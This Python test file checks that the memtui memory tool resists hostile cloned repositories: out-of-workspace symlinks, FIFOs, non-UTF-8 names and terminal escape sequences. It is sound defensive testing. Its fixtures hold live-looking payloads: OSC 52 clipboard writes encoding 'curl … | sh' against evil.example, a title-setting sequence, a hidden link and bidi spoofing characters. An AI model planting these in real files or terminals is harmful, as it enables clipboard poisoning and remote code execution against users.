"""A cloned repository must not be able to attack its user (SPEC §1, §4, §8).

Each test builds what an attacker could ship (a repository tree in tmp_path: symlinks out of
the workspace, FIFOs, non-UTF-8 names, settings linked to /dev/zero, control sequences) and
asserts the safe outcome: nothing outside is read, nothing hangs, everything is reported
with its path and reason, and no escape sequence reaches a terminal.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import unicodedata
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from memtui.core.bounded_reader import FileTooLargeError, NotRegularFileError, RefusedFileError, read_regular
from memtui.core.display import display_path, escape_name, escape_text, json_for_terminal, path_text
from memtui.core.paths import Paths, iter_memory_files, relative_posix
from memtui.core.settings import SettingsError, load_settings, set_workspace_enabled
from memtui.core.store import MemoryStore
from tests.helpers import enable, write

SECRET = "- SECRET from outside the workspace: id_rsa contents"
TIMEOUT = 30  # seconds; a hang (a FIFO opened for reading) fails the test instead of the run


def memtui(paths: Paths, *args: str, input: str | None = None) -> subprocess.CompletedProcess[str]:
    """memtui in a process of its own (tests/cli/run.py), with a timeout so a hang is a failure."""
    from tests.cli.run import memtui as run

    return run(paths, *args, input=input, timeout=TIMEOUT)


def assert_no_traceback(result: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in result.stderr, result.stderr


@pytest.fixture
def secret_dir(tmp_path) -> Path:
    """A folder outside the workspace and the home, holding what must never be read."""
    folder = tmp_path / "outside"
    write(folder / "id_rsa.md", SECRET + "\n")
    write(folder / "memory" / "id_rsa.md", SECRET + "\n")
    return folder


# ---------------------------------------------------------------------------------------
# 1. memory roots that lead out of the workspace / home


def _replace_with_symlink(path: Path, target: Path) -> None:
    shutil.rmtree(path)
    os.symlink(target, path)


@pytest.mark.parametrize("link", [".muse/memory", ".muse"])
def test_project_root_linked_out_of_the_workspace_is_not_read(paths, secret_dir, link):
    enable(paths)
    write(paths.user_root / "good.md", "- a good memory about SECRET handling\n")
    _replace_with_symlink(paths.workspace / link, secret_dir)
    store = MemoryStore(paths)
    store.load()
    assert [e.text for e in store.entries("project")] == []
    assert [e.text for e in store.entries("user")] == ["a good memory about SECRET handling"]
    problem = next(p for p in store.problems if p.source == str(paths.project_root))
    assert "outside" in problem.message and "not read" in problem.message
    assert link in problem.message

    listed = memtui(paths, "list", "--json")
    assert listed.returncode == 0, listed.stderr
    data = json.loads(listed.stdout)
    assert all("id_rsa" not in e["text"] for e in data["entries"])
    assert any(e["source"] == str(paths.project_root) and "outside" in e["message"] for e in data["errors"])
    preview = json.loads(memtui(paths, "preview", "SECRET id_rsa contents", "--json").stdout)
    assert [c["layer"] for c in preview["candidates"]] == ["user"]
    assert "contents" not in preview["text"]


def test_project_root_linked_inside_the_workspace_is_read(paths):
    """The control case: a link that stays inside the workspace is followed as before."""
    write(paths.workspace / "docs" / "memory" / "ctx.md", "- kept in docs\n")
    _replace_with_symlink(paths.project_root, paths.workspace / "docs" / "memory")
    store = MemoryStore(paths)
    store.load()
    assert [e.text for e in store.entries("project")] == ["kept in docs"]
    assert store.problems == []


def test_remember_does_not_write_through_a_root_linked_outside(paths, secret_dir):
    enable(paths)
    _replace_with_symlink(paths.workspace / ".muse" / "memory", secret_dir)
    before = sorted(p.name for p in secret_dir.iterdir())
    result = memtui(paths, "remember", "--project", "planted")
    assert result.returncode == 1
    assert "outside" in result.stderr and str(paths.project_root) in result.stderr
    assert_no_traceback(result)
    assert sorted(p.name for p in secret_dir.iterdir()) == before


def test_workspace_settings_linked_outside_are_not_read_or_written(paths, tmp_path):
    outside = write(tmp_path / "elsewhere" / "settings.json", json.dumps({"memoryEnabled": True}))
    os.symlink(outside, paths.workspace_settings)
    settings = load_settings(paths)
    assert settings.enabled is False  # the repository did not get to switch memory on from outside
    assert any(p.source == str(paths.workspace_settings) and "outside" in p.message for p in settings.problems)
    with pytest.raises(SettingsError, match="outside"):
        set_workspace_enabled(paths, False)
    assert json.loads(outside.read_text()) == {"memoryEnabled": True}


# ---------------------------------------------------------------------------------------
# 2. things that are not regular files


def test_fifo_and_folder_named_like_memory_files_are_reported_and_never_opened(paths):
    enable(paths)
    write(paths.user_root / "good.md", "- a good memory about pipes\n")
    os.mkfifo(paths.user_root / "x.md")
    (paths.project_root / "folder.md").mkdir()
    write(paths.project_root / "folder.md" / "inside.md", "- inside a folder named like a file\n")
    for command in (["list", "--json"], ["status", "--json"], ["preview", "pipes", "--json"]):
        result = memtui(paths, *command)  # would hang on open() without the check
        assert result.returncode == 0, result.stderr
        errors = {e["source"]: e["message"] for e in json.loads(result.stdout)["errors"]}
        assert "FIFO" in errors[str(paths.user_root / "x.md")]
        assert "directory" in errors[str(paths.project_root / "folder.md")]
    listed = json.loads(memtui(paths, "list", "--json").stdout)
    assert [e["text"] for e in listed["entries"]] == ["a good memory about pipes"]


def test_symlink_inside_the_root_to_a_fifo_is_reported(paths):
    os.mkfifo(paths.user_root / "pipe")
    os.symlink(paths.user_root / "pipe", paths.user_root / "alias.md")
    files, problems = iter_memory_files(paths.user_root)
    assert files == []
    assert "FIFO" in problems[0].message and problems[0].source == str(paths.user_root / "alias.md")


def test_read_regular_refuses_what_is_not_a_regular_file(tmp_path):
    fifo = tmp_path / "fifo.md"
    os.mkfifo(fifo)
    with pytest.raises(NotRegularFileError, match="FIFO"):
        read_regular(fifo, 100)
    with pytest.raises(NotRegularFileError, match="directory"):
        read_regular(tmp_path, 100)
    zero = tmp_path / "zero.md"
    os.symlink("/dev/zero", zero)
    with pytest.raises(NotRegularFileError, match="character device") as info:
        read_regular(zero, 100)
    assert isinstance(info.value, OSError) and info.value.path == zero
    with pytest.raises(FileNotFoundError):
        read_regular(tmp_path / "missing.md", 100)


def test_read_regular_limits_and_symlinks(tmp_path):
    exact = tmp_path / "exact.md"
    exact.write_bytes(b"x" * 100)
    assert read_regular(exact, 100) == b"x" * 100
    with pytest.raises(FileTooLargeError, match="over the 99-byte limit"):
        read_regular(exact, 99)
    link = tmp_path / "link.md"
    os.symlink(exact, link)
    assert read_regular(link, 100) == b"x" * 100
    with pytest.raises(RefusedFileError, match="symbolic link"):
        read_regular(link, 100, follow_symlinks=False)


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="needs Linux /proc")
def test_read_regular_does_not_trust_the_size_stat_gives():
    """/proc files are regular files that report size 0 yet hold data: the read goes on to
    the real end, and still stops one byte past the limit."""
    assert read_regular("/proc/self/status", 1024 * 1024).startswith(b"Name:")
    with pytest.raises(FileTooLargeError, match="over the 10-byte limit"):
        read_regular("/proc/self/status", 10)


# ---------------------------------------------------------------------------------------
# 3. file names that are not UTF-8


def test_non_utf8_file_name_is_reported_and_every_command_still_works(paths):
    enable(paths)
    bad = Path(os.fsdecode(bytes(paths.user_root) + b"/x\xff.md"))
    bad.write_bytes(b"- hidden behind a bad name\n")
    write(paths.user_root / "good.md", "- hello from a good file\n")
    shown = str(paths.user_root) + "/x\\xff.md"
    for command in (["list"], ["list", "--json"], ["status"], ["status", "--json"], ["preview", "hello"],
                    ["preview", "hello", "--json"]):
        result = memtui(paths, *command)
        assert result.returncode == 0, (command, result.stderr)
        assert_no_traceback(result)
        if "--json" in command:
            assert shown in [e["source"] for e in json.loads(result.stdout)["errors"]], command
        elif command[0] != "preview":  # the plain preview prints the injection and its summary only
            assert shown in result.stdout + result.stderr, command
    result = memtui(paths, "forget", "hello", "--yes")
    assert result.returncode == 0 and "Deleted 1" in result.stdout, result.stderr
    result = memtui(paths, "undo")
    assert result.returncode == 0, result.stderr
    assert bad.read_bytes() == b"- hidden behind a bad name\n"
    assert "hello from a good file" in (paths.user_root / "good.md").read_text()


def test_relative_posix_and_problems_are_printable(paths):
    name = os.fsdecode(b"sub\xfe/x\xff.md")
    assert relative_posix(paths.user_root / name, paths.user_root) == "sub\\xfe/x\\xff.md"
    write(paths.user_root / os.fsdecode(b"d\xfe") / "a.md", "- under a folder with a bad name\n")
    files, problems = iter_memory_files(paths.user_root)
    assert files == []
    assert problems[0].source.endswith("/d\\xfe") and "not UTF-8" in problems[0].message
    for p in problems:
        json.dumps(p.as_dict(), ensure_ascii=False).encode("utf-8")  # no surrogate left


# ---------------------------------------------------------------------------------------
# 4. settings files


@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "directory", "too-big"])
@pytest.mark.parametrize("which", ["global", "workspace"])
def test_settings_that_are_not_small_regular_files_give_defaults(paths, kind, which):
    path = paths.global_settings if which == "global" else paths.workspace_settings
    if kind == "dev-zero":
        os.symlink("/dev/zero", path)
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    else:
        path.write_text(json.dumps({"memoryEnabled": True, "pad": "x" * (1024 * 1024)}))
    reason = {"dev-zero": "character device", "fifo": "FIFO", "directory": "directory", "too-big": "1 MiB"}[kind]
    if kind == "dev-zero" and which == "workspace":
        reason = "outside"  # refused before its type is even looked at: it leads out of the workspace
    settings = load_settings(paths)
    assert settings.enabled is False
    assert any(p.source == str(path) and reason in p.message for p in settings.problems), settings.problems
    status = memtui(paths, "status", "--json")  # returns promptly, reports, does not crash
    assert status.returncode == 0, status.stderr
    assert any(e["source"] == str(path) and reason in e["message"] for e in json.loads(status.stdout)["errors"])
    if which == "workspace":
        with pytest.raises(SettingsError, match=reason) as info:
            set_workspace_enabled(paths, True)
        assert str(path) in str(info.value)
        result = memtui(paths, "enable")
        assert result.returncode == 1 and str(path) in result.stderr and reason in result.stderr
        assert_no_traceback(result)
        assert "Memory on" not in result.stdout


def test_invalid_workspace_settings_refuse_enable(paths):
    bad = write(paths.workspace_settings, '{"memoryEnabled": fals')
    with pytest.raises(SettingsError, match="invalid JSON") as info:
        set_workspace_enabled(paths, True)
    assert str(bad) in str(info.value)
    result = memtui(paths, "enable")
    assert result.returncode == 1 and "invalid JSON" in result.stderr and "Memory on" not in result.stdout
    assert bad.read_text() == '{"memoryEnabled": fals'


def test_dot_muse_that_is_a_file_gives_a_clear_error(paths):
    shutil.rmtree(paths.workspace / ".muse")
    (paths.workspace / ".muse").write_text("not a folder\n")
    assert load_settings(paths).enabled is False
    with pytest.raises(SettingsError, match="is a file, not a folder"):
        set_workspace_enabled(paths, True)
    result = memtui(paths, "enable")
    assert result.returncode == 1, result.stdout
    assert f"{paths.workspace / '.muse'} is a file, not a folder" in result.stderr
    assert_no_traceback(result)
    enable(paths)
    status = json.loads(memtui(paths, "status", "--json").stdout)
    assert any(e["source"] == str(paths.project_root) and ".muse is not a directory" in e["message"]
               for e in status["errors"])
    result = memtui(paths, "remember", "--project", "x")
    assert result.returncode == 1 and ".muse is not a directory" in result.stderr
    assert_no_traceback(result)
    assert (paths.workspace / ".muse").read_text() == "not a folder\n"


@contextmanager
def read_only(folder: Path):
    """Make `folder` refuse new files for real: mode 0555, or, for root (whom modes do not
    stop), the immutable attribute."""
    if os.geteuid() != 0:
        mode = folder.stat().st_mode
        folder.chmod(0o555)
        try:
            yield
        finally:
            folder.chmod(stat.S_IMODE(mode))
        return
    chattr = shutil.which("chattr")
    if chattr is None or subprocess.run([chattr, "+i", str(folder)], check=False, capture_output=True).returncode != 0:
        pytest.skip("running as root and cannot make a folder immutable here")
    try:
        yield
    finally:
        subprocess.run([chattr, "-i", str(folder)], check=True)


def test_read_only_workspace_folder_gives_a_clear_error(paths):
    with read_only(paths.workspace / ".muse"):
        with pytest.raises(SettingsError, match="cannot write it") as info:
            set_workspace_enabled(paths, True)
        assert str(paths.workspace_settings) in str(info.value)
        result = memtui(paths, "enable")
    assert result.returncode == 1 and str(paths.workspace_settings) in result.stderr
    assert_no_traceback(result)
    assert not paths.workspace_settings.exists()


@pytest.mark.parametrize("layer", ["user", "project"])
def test_remember_into_a_read_only_memory_folder_gives_a_clear_error(paths, layer):
    enable(paths)
    notes = write(paths.default_file(layer), "- already here\n")
    with read_only(paths.root(layer)):
        result = memtui(paths, "remember", *(["--project"] if layer == "project" else []), "a new thing")
        assert sorted(os.listdir(paths.root(layer))) == [notes.name]  # no temporary file left behind
    assert result.returncode == 1, result.stdout
    assert "permission denied" in result.stderr and str(paths.root(layer)) in result.stderr
    assert_no_traceback(result)
    assert notes.read_text() == "- already here\n"


# ---------------------------------------------------------------------------------------
# 5. terminal output


def test_escape_text_keeps_tab_and_newline_and_shows_controls():
    assert escape_text("plain 数据库 text\twith\ttabs\nand lines") == "plain 数据库 text\twith\ttabs\nand lines"
    osc52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
    assert escape_text(osc52) == "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
    assert escape_text("\x1b]8;;https://evil\x1b\\link\x1b]8;;\x1b\\") == (
        "\\x1b]8;;https://evil\\x1b\\link\\x1b]8;;\\x1b\\")
    assert escape_text("a\rb\x7fc\x9bd\x00") == "a\\rb\\x7fc\\x9bd\\x00"
    assert escape_text("x\udcffy") == "x\\xffy"


BIDI = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]


@pytest.mark.parametrize("bidi", BIDI, ids=[f"U+{ord(c):04X}" for c in BIDI])
def test_bidi_controls_are_shown_as_escapes_everywhere_a_terminal_sees(bidi):
    escaped = f"\\u{ord(bidi):04x}"
    assert escape_text(f"run {bidi}exe.txt") == f"run {escaped}exe.txt"
    assert escape_name(f"evil{bidi}gnp.md") == f"evil{escaped}gnp.md"
    from memtui.cli.hook import _say

    said = io.StringIO()
    _say(said, f"cwd {bidi}x")  # the hook's reason on stderr
    assert said.getvalue() == f"memtui hook: cwd {escaped}x\n"
    assert json.loads(json_for_terminal(json.dumps({"t": bidi}, ensure_ascii=False))) == {"t": bidi}
    assert bidi not in json_for_terminal(json.dumps({"t": bidi}, ensure_ascii=False))
    # right-to-left writing keeps its marks in memory text
    assert escape_text("שלום\u200f abc") == "שלום\u200f abc"


def test_escape_name_forges_no_line():
    assert escape_name("a\nb\r\tc.md") == "a\\nb\\r\\tc.md"
    assert escape_name("evil\u202egnp.md") == "evil\\u202egnp.md"
    assert escape_name("x\u2028y") == "x\\u2028y"
    assert display_path(Path(os.fsdecode(b"/w/x\xff\n.md"))) == "/w/x\\xff\\n.md"
    assert path_text(os.fsdecode(b"x\xff.md\n")) == "x\\xff.md\n"


CONTROL_OR_SURROGATE = {"Cc", "Cs"}


@given(st.text(alphabet=st.characters(codec=None, exclude_categories=())))
@example("\x1b]0;title\x07\n\t\r\x85\u009b\udcff")
def test_escaped_output_has_no_control_characters(s):
    text = escape_text(s)
    assert all(unicodedata.category(c) not in CONTROL_OR_SURROGATE or c in "\t\n" for c in text)
    assert not set(text) & set(BIDI)
    name = escape_name(s)
    assert all(unicodedata.category(c) not in CONTROL_OR_SURROGATE for c in name)
    assert "\u2028" not in name and "\u202e" not in name
    text.encode("utf-8")
    name.encode("utf-8")
    path_text(s).encode("utf-8")


@given(st.text(alphabet=st.characters(exclude_categories=("Cc", "Cs"), exclude_characters="".join(BIDI))))
def test_clean_text_is_unchanged(s):
    assert escape_text(s) == s
    assert path_text(s) == s


# ---------------------------------------------------------------------------------------
# 6. through a real terminal: the console script on a pseudo-terminal

OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07"  # writes the clipboard
TITLE = "\x1b]0;you have been pwned\x07"  # sets the window title
ANSI = "\x1b[2J\x1b[31mred\x1b[0m"  # clears the screen, colours text
OSC8 = "\x1b]8;;https://evil.example\x1b\\click me\x1b]8;;\x1b\\"  # a hidden link
C1 = "\x9b2J"  # an 8-bit CSI


def run_in_pty(argv: list[str], typed: str = "", timeout: float = TIMEOUT) -> tuple[int, bytes]:
    """Run `argv` with stdin, stdout and stderr on a new pseudo-terminal (so isatty() is
    true, as for a person at a terminal); returns the exit code and every byte written."""
    import select
    import time

    master, slave = os.openpty()
    try:
        proc = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=slave, close_fds=True,
                                env={**os.environ, "TERM": "xterm-256color", "PYTHONIOENCODING": "utf-8"})
    finally:
        os.close(slave)
    output = bytearray()
    try:
        if typed:
            os.write(master, typed.encode())
        deadline = time.monotonic() + timeout
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                proc.kill()
                raise AssertionError(f"{argv[3:]} did not finish within {timeout}s; output so far: {bytes(output)!r}")
            ready, _, _ = select.select([master], [], [], left)
            if not ready:
                continue
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: every holder of the terminal has closed it
                break
            if not chunk:
                break
            output += chunk
        return proc.wait(timeout=timeout), bytes(output).replace(b"\r\n", b"\n")
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(master)


# memtui's own styling on a terminal: `list` shows each layer heading in bold
_OWN_STYLE = re.compile(rb"^\x1b\[1m(User|Project|Conversation) \(\d+[^\x1b\n]*\)\x1b\[0m$")


def assert_no_terminal_control(output: bytes, command: str) -> None:
    for line in output.split(b"\n"):
        if _OWN_STYLE.match(line):
            continue
        assert b"\x1b" not in line, f"{command}: a raw ESC reached the terminal: {line!r}"
        assert b"\xc2\x9b" not in line and b"\x07" not in line, f"{command}: a raw control reached the terminal: {line!r}"
        assert b"\r" not in line, f"{command}: a raw carriage return reached the terminal: {line!r}"
        for bidi in BIDI:
            assert bidi.encode() not in line, f"{command}: a raw bidi control reached the terminal: {line!r}"


@pytest.fixture
def hostile_repo(paths) -> Paths:
    """A cloned repository that switches memory on and ships escape sequences in memory
    text, tags, headings, frontmatter and file names (one with a newline in it)."""
    write(paths.workspace_settings, json.dumps({"memoryEnabled": True}))
    write(paths.project_root / "context.md",
          # YAML refuses raw control characters, but its escapes `\\e` and `\\a` make them
          "---\ntags: [\"ok\", \"tag\\e]0;you have been pwned\\a\"]\n---\n\n"
          f"## Heading {TITLE}\n\n"
          f"- paste this {OSC52} done\n- colour {ANSI} and {OSC8} and {C1} here\n- carriage\rreturn line\n")
    write(paths.project_root / "evil\nforged.md", f"- from a file whose name has a newline {ANSI}\n")
    write(paths.project_root / f"esc{TITLE}name.md", "- from a file whose name sets the title\n")
    write(paths.project_root / "bad\nyaml.md", f"---\nkey: [{OSC52}\n---\n- x\n")  # reported by name
    write(paths.user_root / "mine.md", "- my own memory about paste and colour\n")
    write(paths.project_root / "reorder.md", "- paste runs \u202egnp.exe\u202c and \u2067isolated\u2069\n")
    return paths


def test_no_escape_sequence_from_a_repository_reaches_the_terminal(hostile_repo):
    paths = hostile_repo
    exe = shutil.which("memtui", path=str(Path(sys.executable).parent))
    base = [exe, "--home", str(paths.home), "-w", str(paths.workspace)]
    outputs = {}
    for command in (["list"], ["status"], ["preview", "paste colour file name newline title"],
                    ["remember", "--project", "one more"], ["forget", "colour"], ["undo"], ["undo", "--list"],
                    ["list", "--json"], ["preview", "paste", "--json"]):
        code, out = run_in_pty(base + command, typed="y\n" if command[0] == "forget" else "")
        name = " ".join(command)
        assert code == 0, f"{name} exited {code}: {out!r}"
        assert b"Traceback" not in out, out
        assert_no_terminal_control(out, name)
        outputs[name] = out.decode("utf-8")

    listed = outputs["list"]
    # the memories are there, visibly escaped
    assert "paste this \\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\\x07 done" in listed
    assert "\\x1b[2J\\x1b[31mred\\x1b[0m" in listed and "\\x9b2J" in listed and "carriage return line" in listed
    assert "tag\\x1b]0;you have been pwned\\x07" in listed
    # the name with a newline is one escaped line, and forges none
    assert "evil\\nforged.md:1" in listed
    assert not any(line.startswith("forged.md") for line in listed.splitlines())
    assert "esc\\x1b]0;you have been pwned\\x07name.md:1" in listed
    assert "bad\\nyaml.md: invalid YAML" in listed  # reported under its escaped name
    assert "bad\\nyaml.md: invalid YAML" in outputs["status"]
    assert "\\x1b]52" in outputs["preview paste colour file name newline title"]
    assert "paste runs \\u202egnp.exe\\u202c and \\u2067isolated\\u2069" in listed
    assert "Deleted" in outputs["forget colour"] and "Undone" in outputs["undo"]
    # --json keeps the exact characters (as JSON escapes): the value is the original text
    entries = json.loads(outputs["list --json"])["entries"]
    assert any(e["text"] == f"paste this {OSC52} done" for e in entries)
    assert "\u009b" not in outputs["list --json"]  # written as \u009b, the same JSON value
    assert any(e["text"] == f"colour {ANSI} and {OSC8} and {C1} here" for e in entries)


def test_preview_to_a_pipe_is_the_exact_injection(hostile_repo):
    """Only a terminal gets escapes: piped, the preview text is byte for byte the injection."""
    from memtui.core.serve import build_injection

    paths = hostile_repo
    expected = build_injection(paths.workspace, "paste", home=paths.home).text
    assert OSC52 in expected
    result = memtui(paths, "preview", "paste")
    assert result.returncode == 0, result.stderr
    assert result.stdout == expected + "\n"


def test_a_root_linked_outside_is_not_watched(paths, secret_dir):
    """Watching `.muse/memory -> ~` recursively would put a watch on every folder of the home."""
    from memtui.core.watch import StoreWatcher

    _replace_with_symlink(paths.project_root, secret_dir)
    store = MemoryStore(paths)
    store.load()
    with StoreWatcher(store) as watcher:
        assert paths.user_root in watcher._watched
        assert paths.project_root not in watcher._watched


def test_git_root_lookup_is_not_stalled_by_a_fifo(tmp_path):
    """`import claude-code` reads the workspace's `.git` file and the `commondir` it points
    to: a repository shipping `commondir` as a FIFO must not hang it (run in a child process
    with a timeout, so a regression fails instead of stalling the test run)."""
    ws = tmp_path / "ws"
    (ws / "wt").mkdir(parents=True)
    (ws / ".git").write_text("gitdir: wt\n")
    os.mkfifo(ws / "wt" / "commondir")
    code = "import sys; from memtui.core.interop.claude_code import git_root; print(git_root(sys.argv[1]))"
    result = subprocess.run([sys.executable, "-c", code, str(ws)], check=False, capture_output=True, text=True,
                            timeout=TIMEOUT)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == str(ws)


def test_a_user_memory_folder_linked_into_dotfiles_is_read(tmp_path):
    """The user root is the person's own folder: a link to elsewhere (dotfiles) is fine, while
    a file inside it that links out of that folder is still not followed."""
    from memtui.core.store import MemoryStore

    dotfiles = tmp_path / "dotfiles" / "muse-memory"
    dotfiles.mkdir(parents=True)
    (dotfiles / "notes.md").write_text("- from my dotfiles\n")
    secret = tmp_path / "secret.md"
    secret.write_text("- not a memory\n")
    (dotfiles / "leak.md").symlink_to(secret)
    home, ws = tmp_path / "home", tmp_path / "ws"
    home.mkdir()
    ws.mkdir()
    (home / "memory").symlink_to(dotfiles)
    store = MemoryStore(Paths(home, ws), index=False)
    store.load()
    assert [e.text for e in store.entries("user")] == ["from my dotfiles"]
    assert any("leak.md" in p.source for p in store.problems)
